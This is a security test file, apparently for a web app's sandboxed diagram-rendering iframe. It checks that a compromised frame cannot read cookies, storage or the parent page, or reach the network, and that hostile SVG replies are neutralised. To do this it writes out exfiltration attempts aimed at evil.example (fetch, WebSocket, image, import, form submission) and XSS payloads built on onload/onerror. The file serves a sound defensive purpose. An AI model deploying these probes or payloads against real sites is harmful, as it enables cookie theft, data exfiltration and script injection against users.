import { readFile } from "node:fs/promises";
import { expect, test } from "vitest";
import {
  askForDiagrams,
  buildDrawnMessage,
  buildFrameScript,
  openWithFrameScript,
  svg,
} from "../../support/pages/drawingFrame.ts";
import { composer, expectEventually } from "../../support/pages/screen.ts";
import { createWorkspaceFixture } from "../../support/servers/createWorkspaceFixture.ts";

// Requests to any other server fail a test by themselves: see openPages.ts.
const fixture = createWorkspaceFixture();

test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
  const attemptsScript = buildFrameScript(`async (id) => {
      const got = [];
      const attempt = async (name, act) => {
        try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
      };
      await attempt("cookie", () => document.cookie !== undefined && "cookie");
      await attempt("localStorage", () => localStorage);
      await attempt("sessionStorage", () => sessionStorage);
      await attempt("indexedDB", () => new Promise((yes, no) => { const o = indexedDB.open("x"); o.onsuccess = yes; o.onerror = no; }).then(() => true));
      await attempt("caches", () => caches.open("x"));
      await attempt("parent", () => parent.document.body);
      await attempt("address", () => parent.location.href);
      await attempt("fetch", () => fetch(${JSON.stringify("/api/session")}).then(() => true));
      await attempt("fetch without cors", () => fetch("https://evil.example/", { mode: "no-cors" }).then(() => true));
      await attempt("beacon", () => fetch("https://evil.example/", { keepalive: true, mode: "no-cors" }).then(() => true));
      await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("wss://evil.example"); s.onopen = yes; s.onerror = no; }).then(() => true));
      await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://evil.example/p.png"; }).then(() => true));
      await attempt("import", () => import("https://evil.example/x.js"));
      await attempt("eval", () => Function("return true")());
      await attempt("inline script", () => { const s = document.createElement("script"); s.textContent = "window.inline = 1"; document.body.append(s); return window.inline; });
      await attempt("frame", () => new Promise((yes, no) => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.framed = 1</scr" + "ipt>"; document.body.append(f); setTimeout(() => window.framed ? yes(1) : no(), 500); }));
      await attempt("window", () => window.open("https://evil.example"));
      await attempt("top", () => { top.location = "https://evil.example"; });
      await attempt("form", () => { const f = document.createElement("form"); f.action = "https://evil.example"; f.target = "_top"; document.body.append(f); f.submit(); });
      await attempt("service worker", () => navigator.serviceWorker.register("/drawing/assets/x.js"));
      return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
    }`);
  // The expected violation is that of the nested frame that the script creates.
  const { page, ran } = await openWithFrameScript(fixture, () => attemptsScript, /^Executing inline script violates/);
  const answer = await askForDiagrams(fixture, page, "graph LR");
  await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
    "Diagram: reached: ",
  );
  // The frame may try to open a window or to create a nested frame, but neither has an effect.
  expect(ran.filter((what) => what !== "open" && what !== "frame about:srcdoc")).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
  await composer(page).fill("The page is still there");
});

/**
 * The frame's replies, by the source that it was asked to draw, and what the page then shows: the diagram or the
 * source.
 */
const hostileReplies = [
  { source: "script", reply: buildDrawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), shown: "diagram" },
  { source: "styles", reply: buildDrawnMessage("<style>@import '//evil.example/x.css';</style>"), shown: "source" },
  {
    source: "page",
    reply: `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
    shown: "source",
  },
  {
    source: "title",
    reply: buildDrawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"),
    shown: "diagram",
  },
  {
    source: "number of another request",
    reply: `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${buildDrawnMessage("<g/>")}`,
    shown: "diagram",
  },
  {
    source: "other messages",
    reply: `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${buildDrawnMessage("<g/>")}`,
    shown: "diagram",
  },
];

test("hostile pictures are harmless or not shown, and messages of other windows are ignored", async () => {
  const replies = hostileReplies.map(({ source, reply }) => `${JSON.stringify(source)}: [${reply}]`);
  const script = buildFrameScript(`(id, source) => ({ ${replies.join(", ")} })[source]`);
  const { page, ran } = await openWithFrameScript(fixture, () => script);
  await page.evaluate(() => {
    const originalPostMessage = window.postMessage.bind(window);
    // Imitate the frame's ready message every millisecond, so that it arrives before the real one.
    setInterval(() => originalPostMessage("drawing-frame-ready", "*"), 1);
    const heardMessages: unknown[] = [];
    Object.assign(window, { heard: heardMessages });
    addEventListener("message", (event) => event.ports.length > 0 && heardMessages.push(event.data));
  });
  const answer = await askForDiagrams(fixture, page, ...hostileReplies.map(({ source }) => source));
  const images = answer.getByRole("img", { name: /^Diagram/ });
  await expectEventually(() => images.count()).toBe(4);
  const areComplete = () =>
    images.evaluateAll((all) => all.map((image) => image instanceof HTMLImageElement && image.complete));
  await expectEventually(areComplete).toEqual([true, true, true, true]);
  for (const image of await images.all()) {
    expect(await image.getAttribute("src")).toMatch(new RegExp(`^blob:${fixture.url}/`));
  }
  const unsafeNotice = answer.getByText("This diagram isn’t safe to show. Here is its source.");
  await expectEventually(() => unsafeNotice.count()).toBe(2);
  expect(await answer.getByRole("group", { name: "Code, Mermaid" }).allTextContents()).toEqual(["styles", "page"]);
  // A saved file may be opened as a page.
  for (const button of await answer.getByRole("button", { name: "Download", exact: true }).all()) {
    await button.click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Image (SVG)" }).click(),
    ]);
    const text = await readFile(await download.path(), "utf8");
    expect(text).toMatch(/^<svg /);
    expect(text).not.toMatch(/script|onload|import/);
  }
  expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
  expect(await page.locator("iframe").evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
    "allow-scripts",
  ]);
  expect(ran).toEqual([]);
});
